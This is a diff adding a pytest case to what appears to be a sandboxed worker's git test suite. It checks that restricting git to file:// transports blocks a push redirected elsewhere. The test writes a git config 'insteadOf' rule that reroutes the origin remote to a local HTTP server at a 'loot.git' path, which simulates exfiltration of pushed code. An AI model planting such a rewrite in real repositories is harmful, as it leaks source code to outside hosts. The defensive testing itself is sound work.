@@ -439,6 +439,22 @@ async def test_sandbox_worker_git_ignores_hooks_fsmonitor_and_transports_a_repos
     assert sorted(p.name for p in markers.iterdir()) == []
 
 
+async def test_sandbox_worker_git_uses_only_the_transports_the_allowed_patterns_need(
+    host: Host, loopback_server: tuple[int, list[str]]
+) -> None:
+    # A config rewriting origin to an HTTP server (say, to exfiltrate what the worker pushes): a deployment that
+    # allows only file:// repositories gives git no http transport at all.
+    port, hits = loopback_server
+    origin = (await gitops.git("remote", "get-url", "origin", cwd=host.worktree)).stdout.strip()
+    with (host.worktree / ".git" / "config").open("a") as config:
+        config.write(f'[url "http://127.0.0.1:{port}/loot.git"]\n\tinsteadOf = {origin}\n')
+    gitops.restrict_protocols(gitops.protocols_for(["file://*"]))
+    assert gitops.protocols_for(["https://*", "git@*:*"]) == ("https", "ssh")
+    with pytest.raises(gitops.GitError):
+        await gitops.push(host.worktree, branch="main")
+    assert hits == []
+
+
 # ----- end to end: the API, the dev server and a worker ------------------------------------------------------
 
 ATTACK_YML = """\
